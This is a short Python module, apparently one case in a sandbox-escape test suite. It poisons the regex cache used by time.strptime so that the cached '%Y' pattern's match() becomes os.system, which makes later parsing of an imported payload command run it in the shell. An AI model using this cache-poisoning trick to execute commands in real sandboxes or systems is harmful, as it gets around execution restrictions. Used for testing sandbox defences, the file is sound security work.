"""What time keeps as a format's pattern has a C function as match()."""
CATEGORY = "callable"
REACH = "run"

import _strptime
import os
import time

from . import payload


class Pattern:
    match = staticmethod(os.system)


def attack():
    time.strptime("2020", "%Y")
    _strptime._regex_cache["%Y"] = Pattern()


TEXT = payload.COMMAND
